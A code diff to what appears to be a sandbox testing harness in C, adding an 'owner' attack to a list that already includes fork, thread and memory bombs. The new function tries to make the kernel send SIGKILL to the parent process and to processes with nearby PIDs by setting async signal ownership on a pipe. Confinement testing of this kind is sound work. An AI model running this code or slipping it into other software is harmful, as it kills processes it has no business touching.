@@ -121,6 +121,27 @@ static void signals(struct attack *a)
     }
 }
 
+/* The kernel is to send the signals of a descriptor: to the manager, to whoever is near, by every way of asking for it. */
+static void owner(struct attack *a)
+{
+    int ends[2];
+    if (pipe2(ends, O_NONBLOCK | O_CLOEXEC))
+        return;
+    for (pid_t pid = getpid() - 10; pid < getpid() + 10; pid++) {
+        pid_t victim = pid == getpid() ? getppid() : pid;
+        struct f_owner_ex process = {F_OWNER_PID, victim};
+        if (victim < 2)
+            continue;
+        note(a, fcntl(ends[0], F_SETOWN, victim) == 0);
+        note(a, fcntl(ends[0], F_SETOWN_EX, &process) == 0);
+        note(a, fcntl(ends[0], F_SETSIG, SIGKILL) == 0);
+        (void)fcntl(ends[0], F_SETFL, O_ASYNC | O_NONBLOCK);
+        (void)!write(ends[1], "x", 1);
+    }
+    close(ends[0]);
+    close(ends[1]);
+}
+
 static void limits(struct attack *a)
 {
     struct rlimit limit = {1, 1};
@@ -298,7 +319,7 @@ static bool once(struct attack *a, const char *name, hz_call *call)
     static const struct {
         const char *name;
         void (*run)(struct attack *a);
-    } known[] = {{"rings", rings}, {"records", records}, {"holes", holes}, {"descriptors", descriptors}, {"signals", signals}, {"limits", limits},
+    } known[] = {{"rings", rings}, {"records", records}, {"holes", holes}, {"descriptors", descriptors}, {"signals", signals}, {"owner", owner}, {"limits", limits},
             {"becoming", becoming}, {"fork_bomb", fork_bomb}, {"thread_bomb", thread_bomb}, {"memory_bomb", memory_bomb},
             {"shared_memory", shared_memory}, {"files", files}, {"sockets", sockets}, {"code", code}};
     if (strcmp(name, "burn") == 0) /* the honest one: it only computes */
